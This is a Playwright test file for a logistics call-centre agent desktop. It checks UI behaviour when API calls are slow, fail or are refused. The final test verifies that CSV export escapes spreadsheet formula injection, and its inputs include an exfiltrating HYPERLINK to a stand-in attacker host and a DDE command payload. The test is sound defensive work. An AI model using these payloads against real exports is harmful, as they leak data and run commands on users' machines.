/// <reference lib="dom" />
// The agent desktop when the API is slow, refuses or fails: what the agent sees then. Headless
// Chromium against the local stack (as agent-desktop.test.ts), with the API's answers delayed or
// replaced through Playwright's routing.
import type { Server } from 'node:http';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createLocalServer, listen } from '#local/server.ts';
import { errorResponse } from '#shared/platform/http/handler.ts';
import { launchChromium } from '../support/browser.ts';
import { loadDemo, loadHistory } from '../support/demo.ts';

let server: Server;
let browser: Browser;
let page: Page;
let base: string;
let pageErrors: string[] = [];

beforeAll(async () => {
  await loadDemo();
  await loadHistory();
  server = createLocalServer({ liveEveryMs: 60_000 });
  base = `http://127.0.0.1:${await listen(server, 0)}`;
  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1366, height: 900 } });
  await page.addInitScript(() => localStorage.setItem('keyline.lang', 'zh-CN'));
  await page.addInitScript(() => localStorage.setItem('keyline.role', 'agent'));
  page.on('pageerror', (e) => pageErrors.push(e.message));
});

afterAll(async () => {
  await browser?.close();
  await new Promise((r) => server?.close(r));
});

beforeEach(async () => {
  pageErrors = [];
  await page.unrouteAll({ behavior: 'ignoreErrors' });
  await page.goto(base);
  await page.waitForSelector('body[data-ready="true"]');
});

const UNAVAILABLE = {
  status: 503,
  contentType: 'application/json',
  body: '{"error":"unavailable","message":"Service Unavailable"}',
};

/** Injects the weather incident once: every Jinhe shipment gets an open delay (detected). */
let incident = false;
async function withOpenDelays() {
  if (incident) return;
  await page.click('#incident-button');
  await page.waitForFunction(() =>
    document.querySelector('#incident-result')?.textContent?.startsWith('已注入'),
  );
  incident = true;
}

const delayState = (wb: string | null, state: string) =>
  page.waitForFunction(
    ([w, s]) =>
      document
        .querySelector(`tr[data-waybill="${w}"] [data-delay-state]`)
        ?.getAttribute('data-delay-state') === s,
    [wb, state],
  );

describe('answers that arrive late', () => {
  it('keeps the card of the call the agent is on when an earlier call’s card answers late', async () => {
    // The earlier call's card is held until the later call's card is drawn, then answers.
    let release = () => {};
    const held = new Promise<void>((r) => {
      release = r;
    });
    await page.route('**/api/accounts/acc-jinhe-grain/screen-pop*', async (route) => {
      await held;
      await route.continue();
    });
    await page.click('[data-caller="key-account"]');
    await page.waitForTimeout(200);
    await page.click('[data-caller="pharma-cold-chain"]');
    await page.waitForFunction(() => document.querySelector('#card-name')?.textContent?.includes('康泰'));
    release();
    await page.waitForTimeout(800);
    expect(await page.locator('#card-name').textContent()).toContain('康泰医药流通');
    expect(await page.locator('#call-direction').textContent()).toContain('+8613311009001');
  });

  it('opens the account clicked last, not the one whose record answered last', async () => {
    let release = () => {};
    const held = new Promise<void>((r) => {
      release = r;
    });
    await page.route('**/api/accounts/acc-jinhe-grain', async (route) => {
      await held;
      await route.continue();
    });
    const lateAnswer = page.waitForResponse('**/api/accounts/acc-jinhe-grain');
    await page.click('#rows tr[data-id="acc-jinhe-grain"]');
    await page.waitForTimeout(200);
    await page.click('#rows tr[data-id="acc-kangtai-pharma"]');
    await page.waitForFunction(() => document.querySelector('#detail-name')?.textContent?.includes('康泰'));
    release();
    await lateAnswer;
    await page.waitForTimeout(300);
    expect(await page.locator('#rows tr[aria-selected="true"]').getAttribute('data-id')).toBe(
      'acc-kangtai-pharma',
    );
    expect(await page.locator('#detail-name').textContent()).toContain('康泰医药流通');
  });

  it('keeps the card of the call that rang when a review pack asked for before answers late', async () => {
    await page.selectOption('#role', 'team-lead'); // the review pack is a team lead's
    await page.click('#rows tr[data-id="acc-jinhe-grain"]');
    await page.waitForSelector('#open-pack');
    await page.route('**/api/accounts/acc-jinhe-grain/review-pack*', async (route) => {
      await new Promise((r) => setTimeout(r, 1_000));
      await route.continue();
    });
    const packAnswered = page.waitForResponse('**/review-pack*');
    await page.click('#open-pack');
    await page.waitForTimeout(200);
    await page.click('[data-caller="pharma-cold-chain"]');
    await page.waitForFunction(() => document.querySelector('#card-name')?.textContent?.includes('康泰'));
    await packAnswered;
    await page.waitForTimeout(300);
    expect(await page.locator('#pack-title').count()).toBe(0);
    expect(await page.locator('#card-name').textContent()).toContain('康泰医药流通');
  });

  it('keeps the card of the call that rang when a complaint’s transition answers late', async () => {
    const created = await (
      await page.request.post(`${base}/api/complaints`, {
        headers: { 'x-keyline-role': 'agent' },
        data: {
          accountId: 'acc-alpina-chocolate',
          waybills: [],
          category: 'billing',
          severity: 'low',
          channel: 'agent-phone',
          description: '发票抬头错误',
        },
      })
    ).json();
    await page.fill('#find-q', created.reference);
    await page.keyboard.press('Enter');
    await page.waitForSelector('#find-results button');
    await page.click('#find-results button');
    await page.waitForSelector('#complaint-title');
    await page.route(`**/api/complaints/${created.id}/transitions`, async (route) => {
      await new Promise((r) => setTimeout(r, 1_000));
      await route.continue();
    });
    const transitionAnswered = page.waitForResponse(`**/api/complaints/${created.id}/transitions`);
    await page.click('[data-transition="acknowledged"]');
    await page.waitForTimeout(200);
    await page.click('[data-caller="pharma-cold-chain"]');
    await page.waitForFunction(() => document.querySelector('#card-name')?.textContent?.includes('康泰'));
    // The transition is done (the API answered it), but the agent is on the call now.
    expect((await transitionAnswered).status()).toBe(200);
    await page.waitForTimeout(300);
    expect(await page.locator('#complaint-title').count()).toBe(0);
    expect(await page.locator('#card-name').textContent()).toContain('康泰医药流通');
  });
});

describe('a card re-opened after the agent’s own request, when a call rang meanwhile', () => {
  let release = () => {};
  /** Holds the POSTs matching `url` until `ringDuring` lets them go, answering `answer` or the API's. */
  const slow = (url: string, answer?: object) => {
    const gate = new Promise<void>((r) => {
      release = r;
    });
    return page.route(url, async (route) => {
      if (route.request().method() !== 'POST') return route.continue();
      await gate;
      return answer ? route.fulfill({ status: 200, json: answer }) : route.continue();
    });
  };
  /** Rings the pharma caller while the request is held, lets it answer once that card is drawn. */
  const ringDuring = async (answered: Promise<unknown>) => {
    await page.click('[data-caller="pharma-cold-chain"]');
    await page.waitForFunction(() => document.querySelector('#card-name')?.textContent?.includes('康泰'));
    release();
    await answered;
    await page.waitForTimeout(300);
  };

  it('keeps the card of the call that rang when a delay acknowledgement answers late', async () => {
    await withOpenDelays();
    await page.click('[data-caller="key-account"]');
    await page.waitForSelector('[data-ack]');
    await slow('**/api/shipments/*/delay');
    const answered = page.waitForResponse('**/api/shipments/*/delay');
    await page.locator('[data-ack]').first().click();
    await ringDuring(answered);
    expect(await page.locator('#card-name').textContent()).toContain('康泰医药流通');
    expect(pageErrors).toEqual([]);
  });

  it('keeps the card of the call that rang when a complaint filed before it answers late, and says it was filed', async () => {
    await page.click('[data-caller="key-account"]');
    await page.waitForSelector('#card-name');
    await page.click('#new-complaint');
    await page.fill('#cf-description', '油罐车到站晚了两天');
    await slow('**/api/complaints');
    const created = page.waitForResponse(
      (r) => r.url().endsWith('/api/complaints') && r.request().method() === 'POST',
    );
    await page.click('#cf-submit');
    await ringDuring(created);
    expect(await page.locator('#card-name').textContent()).toContain('康泰医药流通');
    // The agent still learns the complaint is on file, and under which reference.
    const reference = (await (await created).json()).reference as string;
    expect(await page.locator('#announce').textContent()).toContain(reference);
  });

  /** The unknown caller's card, with Jinhe's contacts offered to attach the number to. */
  const jinheContactsForUnknownCaller = async () => {
    await page.click('[data-caller="unknown-number"]');
    await page.waitForSelector('#unknown-card');
    await page.fill('#unknown-search', '金禾');
    await page.keyboard.press('Enter');
    await page.click('[data-account="acc-jinhe-grain"]');
    await page.waitForSelector('[data-attach]');
  };

  it('keeps the card of the call that rang when a number attached before it answers late', async () => {
    await jinheContactsForUnknownCaller();
    // Answered as the API would, without attaching: the demo book stays as it is for later tests.
    await slow('**/api/accounts/acc-jinhe-grain/contacts/*/phones', { id: 'x', phones: [] });
    const answered = page.waitForResponse('**/phones');
    await page.locator('[data-attach]').first().click();
    await ringDuring(answered);
    expect(await page.locator('#card-name').textContent()).toContain('康泰医药流通');
    expect(await page.locator('#unknown-card').count()).toBe(0);
  });

  it('says so on the unknown caller’s card when attaching the number fails', async () => {
    await jinheContactsForUnknownCaller();
    await page.route('**/api/accounts/acc-jinhe-grain/contacts/*/phones', (route) =>
      route.fulfill(UNAVAILABLE),
    );
    await page.locator('[data-attach]').first().click();
    await page.waitForSelector('#unknown-status.error');
    expect(await page.locator('#unknown-status').textContent()).toMatch(/^请求失败/);
    expect(await page.locator('#unknown-card').count()).toBe(1);
    expect(pageErrors).toEqual([]);
  });
});

describe('the complaint form across redraws of the card', () => {
  it('keeps what is typed, and its idempotency key, when a delay on the card is acknowledged', async () => {
    await withOpenDelays();
    await page.click('[data-caller="key-account"]');
    await page.waitForSelector('[data-ack]');
    await page.click('#new-complaint');
    const text = '天津仓到北京的食用油晚到，门店断货，客户要求赔偿。';
    await page.fill('#cf-description', text);
    // A first try that fails: the key it was sent with is the submission's.
    const keys: string[] = [];
    await page.route('**/api/complaints', (route) => {
      keys.push(route.request().headers()['idempotency-key'] ?? '');
      return keys.length === 1 ? route.fulfill(UNAVAILABLE) : route.continue();
    });
    await page.click('#cf-submit');
    await page.waitForSelector('#complaint-form .error');
    const waybill = await page.locator('[data-ack]').first().getAttribute('data-ack');
    await page.locator('[data-ack]').first().click();
    await delayState(waybill, 'acknowledged');
    expect(await page.inputValue('#cf-description')).toBe(text);
    expect(await page.locator('#complaint-box').getAttribute('open')).not.toBeNull();
    // The retry after the redraw is the same submission: the same key.
    const created = page.waitForResponse((r) => r.url().endsWith('/api/complaints'));
    await page.click('#cf-submit');
    expect((await created).status()).toBe(201);
    expect(keys).toHaveLength(2);
    expect(keys[1]).toBe(keys[0]);
  });

  it('keeps what is typed when the agent switches the language', async () => {
    await page.click('[data-caller="key-account"]');
    await page.waitForSelector('#card-name');
    await page.click('#new-complaint');
    await page.fill('#cf-description', '客户投诉司机态度差');
    await page.selectOption('#cf-category', 'damage');
    await page.click('#lang');
    await page.waitForFunction(() => document.documentElement.lang === 'en');
    const kept = [await page.inputValue('#cf-description'), await page.inputValue('#cf-category')];
    const label = await page.locator('#cf-submit').textContent();
    await page.click('#lang');
    expect(kept).toEqual(['客户投诉司机态度差', 'damage']);
    // The form itself is in the new language.
    expect(label).toBe('File complaint');
  });

  it('says a complaint was filed, with its reference, when the card’s reload after it fails', async () => {
    await page.click('[data-caller="pharma-cold-chain"]');
    await page.waitForSelector('#card-name');
    await page.click('#new-complaint');
    await page.fill('#cf-description', '疫苗冷链温度超标');
    await page.route('**/api/accounts/acc-kangtai-pharma/screen-pop*', (route) => route.fulfill(UNAVAILABLE));
    const created = page.waitForResponse(
      (r) => r.url().endsWith('/api/complaints') && r.request().method() === 'POST',
    );
    await page.click('#cf-submit');
    expect((await created).status()).toBe(201);
    const reference = (await (await created).json()).reference as string;
    await page.waitForSelector('#card-filed');
    expect(await page.locator('#card-filed').textContent()).toContain(reference);
  });
});

describe('failures and refusals the agent is told of', () => {
  it('a failed delay acknowledgement shows the catalog’s message in an alert', async () => {
    await withOpenDelays();
    await page.click('[data-caller="key-account"]');
    await page.waitForSelector('[data-ack]');
    await page.route('**/api/shipments/*/delay', (route) => route.fulfill(UNAVAILABLE));
    await page.locator('[data-ack]').first().click();
    await page.waitForSelector('#detail [role="alert"]');
    expect(await page.locator('#detail [role="alert"]').first().textContent()).toMatch(/^请求失败/);
    expect(pageErrors).toEqual([]);
  });

  it('a campaign action the API refuses is shown in the campaign panel', async () => {
    await page.locator('#role').selectOption('team-lead');
    await page.click('#new-campaign');
    await page.click('#campaign-create');
    await page.waitForSelector('#campaign-list li [data-action="pause"]');
    await page.route('**/api/campaigns/*/actions', (route) =>
      route.fulfill({
        status: 409,
        contentType: 'application/json',
        body: JSON.stringify({
          error: 'illegal_transition',
          message: 'campaign is completed',
          requestId: 'r1',
        }),
      }),
    );
    await page.locator('#campaign-list li [data-action="pause"]').first().click();
    await page.waitForSelector('#campaign-panel [role="alert"]');
    const shown = await page.locator('#campaign-panel [role="alert"]').first().textContent();
    await page.locator('#role').selectOption('agent');
    expect(shown).toBe('当前状态下不允许此操作');
    expect(pageErrors).toEqual([]);
  });

  it('the complaints panel says it is offline, and since when, when its live feed fails', async () => {
    await page.route('**/api/desk*', (route) => route.fulfill(UNAVAILABLE));
    await page.click('[data-filter="breached"]');
    await page.waitForSelector('#complaint-panel [role="alert"]');
    expect(await page.locator('#complaint-panel [role="alert"]').textContent()).toMatch(
      /^实时更新失败，自 \d{2}:\d{2}.* 起离线/,
    );
    expect(pageErrors).toEqual([]);
    // Back online: the line goes and the filter the agent chose is shown.
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    await page.click('[data-filter="breached"]');
    await page.waitForFunction(() => !document.querySelector('#complaint-panel [role="alert"]'));
    expect(await page.locator('[data-filter="breached"]').getAttribute('aria-pressed')).toBe('true');
  });

  it('says the search failed, with a retry, when the API is down (not "no match")', async () => {
    await page.route('**/api/**', (route) => route.fulfill(UNAVAILABLE));
    await page.fill('#find-q', '金禾');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#find-results li');
    expect(await page.locator('#find-results').textContent()).toContain('搜索失败');
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    await page.click('#find-retry');
    await page.waitForSelector('#find-results button:not(#find-retry)');
    expect(await page.locator('#find-results').textContent()).toContain('金禾粮油集团');
  });

  it('when the card cannot load, names the caller from the call’s attributes and retries', async () => {
    await page.route('**/api/accounts/acc-jinhe-grain/screen-pop*', (route) => route.fulfill(UNAVAILABLE));
    await page.click('[data-caller="key-account"]');
    await page.waitForSelector('#card-retry');
    expect(await page.locator('#detail').textContent()).toContain('金禾粮油集团');
    expect(await page.locator('#detail [data-tier="key"]').count()).toBe(1);
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    await page.click('#card-retry');
    await page.waitForSelector('#card-shipments, #card-kpis');
    expect(await page.locator('#card-name').textContent()).toContain('金禾粮油集团');
  });
});

describe('errors worded in the agent’s language', () => {
  it('a server error reads in Chinese and shows the request id it asks to quote', async () => {
    const real = errorResponse(new Error('boom'), 'req-01TESTREQUESTID', true);
    await page.route('**/api/complaints', (route) =>
      route.request().method() === 'POST'
        ? route.fulfill({ status: real.statusCode, headers: real.headers, body: real.body })
        : route.continue(),
    );
    await page.click('[data-caller="key-account"]');
    await page.waitForSelector('#card-name');
    await page.click('#new-complaint');
    await page.fill('#cf-description', '货物破损');
    await page.click('#cf-submit');
    await page.waitForSelector('#complaint-form .error');
    const said = String(await page.locator('#complaint-form .error').textContent());
    expect(await page.inputValue('#cf-description')).toBe('货物破损');
    expect(said).toContain('req-01TESTREQUESTID');
    expect(said).not.toMatch(/[A-Za-z]{4,} [A-Za-z]{4,}/);
  });

  it('a version conflict on a complaint reads in Chinese only', async () => {
    const post = (path: string, body: unknown) =>
      page.request.post(`${base}/api${path}`, { data: body, headers: { 'x-keyline-role': 'agent' } });
    const created = await (
      await post('/complaints', {
        accountId: 'acc-alpina-chocolate',
        waybills: [],
        category: 'billing',
        severity: 'low',
        channel: 'agent-phone',
        description: '发票抬头错误',
      })
    ).json();
    // The agent opens the complaint from the search box; meanwhile a colleague acknowledges it.
    await page.fill('#find-q', created.reference);
    await page.keyboard.press('Enter');
    await page.waitForSelector('#find-results button');
    await page.click('#find-results button');
    await page.waitForSelector('#complaint-title');
    await post(`/complaints/${created.id}/transitions`, { to: 'acknowledged', version: created.version });
    await page.click('[data-transition="acknowledged"]');
    await page.waitForFunction(() => document.querySelector('#complaint-status')?.className === 'error');
    const said = String(await page.locator('#complaint-status').textContent());
    expect(said).toMatch(/^已被他人先修改/);
    expect(said).not.toMatch(/[A-Za-z]{4,} [A-Za-z]{4,}/);
  });

  it('words a refused waybill in Chinese, without the API’s field paths', async () => {
    await page.click('[data-caller="key-account"]');
    await page.waitForSelector('#card-name');
    await page.click('#new-complaint');
    await page.fill('#cf-waybill', 'sf-71000');
    await page.fill('#cf-description', '货物少了两箱');
    await page.click('#cf-submit');
    await page.waitForSelector('#complaint-form .error');
    const said = String(await page.locator('#complaint-form .error').textContent());
    expect(said).toMatch(/^有字段需要更正（运单号：/);
    expect(said).not.toContain('body.');
    expect(said).not.toMatch(/[A-Za-z]{3,} [A-Za-z]{3,}/);
  });
});

describe('the card’s figures agree with its lines', () => {
  it('after a delay is cleared, the delayed counter and the delayed rows agree', async () => {
    await withOpenDelays();
    await page.click('[data-caller="key-account"]');
    await page.waitForSelector('[data-clear]');
    const waybill = await page.locator('[data-clear]').first().getAttribute('data-clear');
    await page.locator('[data-clear]').first().click();
    await delayState(waybill, 'cleared');
    const counter = Number(await page.locator('#card-delayed .value').textContent());
    const rows = await page.locator('#card-shipments tr[data-delayed="true"]').count();
    expect(counter).toBe(rows);
    // A cleared delay is back on schedule: not a delayed row.
    expect(await page.locator(`tr[data-waybill="${waybill}"]`).getAttribute('data-delayed')).toBe('false');
  });
});

describe('catalog text and the call centre’s zone', () => {
  it('names an alert’s channel in the agent’s language on the card’s alert log', async () => {
    const text = (await page.evaluate(`(async () => {
      const { alertLines } = await import('/card.js');
      const { TEXT } = await import('/i18n.js');
      const n = { status: 'sent', at: '2026-11-24T03:00:00.000Z', channel: 'email', contactName: '赵敏', waybill: '7100000000' };
      const report = { ...n, kind: 'daily-report', waybill: '', status: 'undeliverable' };
      return alertLines([n, report], TEXT['zh-CN'], 'zh-CN').map((e) => e.textContent).join(' ');
    })()`)) as string;
    expect(text).not.toContain('EMAIL');
    expect(text).toContain('邮件');
    // The daily report's line names the report, not an empty waybill.
    expect(text).toContain('赵敏 · 每日运输跟踪报表 · ');
  });

  it('keeps the ten newest alerts on the card however many daily reports went out, with the latest day’s reports', async () => {
    const shown = (await page.evaluate(`(async () => {
      const { alertLines } = await import('/card.js');
      const { TEXT } = await import('/i18n.js');
      const at = (day, minute) => new Date(Date.UTC(2026, 10, day, 0, minute)).toISOString();
      const alert = (i) => ({ status: 'sent', at: at(20, i), channel: 'sms', contactName: '赵敏', waybill: 'WB' + i });
      const report = (day, who) => ({ kind: 'daily-report', waybill: '', status: 'sent', at: at(day, 30), channel: 'email', contactName: who });
      // Three recipients' reports on each of four days, newer than every alert, then twelve alerts.
      const reports = [24, 23, 22, 21].flatMap((d) => ['赵敏', '李强', '王芳'].map((w) => report(d, w)));
      const alerts = Array.from({ length: 12 }, (_, i) => alert(59 - i));
      const [list] = alertLines([...reports, ...alerts], TEXT['zh-CN'], 'zh-CN');
      return Array.from(list.querySelectorAll('li')).map((li) => li.textContent.includes('每日运输跟踪报表') ? 'report' : 'alert');
    })()`)) as string[];
    expect(shown).toEqual([...Array(3).fill('report'), ...Array(10).fill('alert')]);
  });

  it('labels the local outbox’s messages in the agent’s language', async () => {
    const text = (await page.evaluate(`(async () => {
      const { renderOutbox } = await import('/outbox.js');
      const { TEXT } = await import('/i18n.js');
      const state = { config: { mode: 'local' }, desk: { outbox: {
        sms: [{ at: '2026-11-24T03:01:00.000Z', to: '+8613800138000', text: '您的货物延误' }],
        email: [{ at: '2026-11-24T03:00:00.000Z', to: 'zhao@jinhe.example', subject: '运输延误提醒' }],
        totals: { sms: 1, email: 1 },
      } } };
      renderOutbox(state, () => TEXT['zh-CN']);
      return document.querySelector('#outbox-list')?.textContent ?? '';
    })()`)) as string;
    expect(text).toContain('运输延误提醒');
    expect(text).toContain('短信');
    expect(text).not.toMatch(/Email|SMS/);
  });

  it('shows the next review date in the call centre’s zone', async () => {
    // Decided at 07:30 in Shanghai (23:30 UTC the day before): the 27th in Shanghai.
    const shown = (await page.evaluate(`(async () => {
      const { renderReview } = await import('/review.js');
      const { TEXT } = await import('/i18n.js');
      const t = TEXT['zh-CN'];
      const get = (p) => fetch('/api/accounts/acc-jinhe-grain' + p, { headers: { 'x-keyline-role': 'account-manager' } }).then((r) => r.json());
      const [a, review] = await Promise.all([get(''), get('/review')]);
      review.proposal.nextReviewDue = '2027-02-26T23:30:00.000Z';
      const ctx = { t, lang: 'zh-CN', cny: (n) => String(n), pct: (n) => String(n), teamName: (x) => x, teams: {}, tierBadge: () => '' };
      const box = document.createElement('div');
      box.append(...[renderReview(a, review, ctx, () => {})].flat(Infinity).filter(Boolean));
      const dt = [...box.querySelectorAll('dt')].find((d) => d.textContent === t.nextReview);
      return dt?.nextElementSibling?.textContent ?? 'no next-review line';
    })()`)) as string;
    expect(shown).not.toContain('2027-02-26');
    expect(shown).toMatch(/2027.*2.*27/);
  });
});

describe('the search box and the cockpit’s CSV', () => {
  it('names the account a waybill belongs to, not its internal id', async () => {
    await page.fill('#find-q', '7100000000');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#find-results button');
    const label = String(await page.locator('#find-results button').first().textContent());
    expect(label).not.toContain('acc-jinhe-grain');
    expect(label).toContain('金禾粮油集团');
  });

  it('does not hand a spreadsheet a formula from an account name or a reason', async () => {
    const csv = (await page.evaluate(`import('/cockpit.js').then((m) =>
      m.toCsv(['客户', '原因', '数'], [['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+cmd|/C calc!A0', -3], ['@SUM(A1)', '\\tx', '金禾']]))`)) as string;
    const [, first, second] = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(first).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")",'+1+cmd|/C calc!A0,-3`);
    expect(second).toBe(`'@SUM(A1),'\tx,金禾`);
  });
});
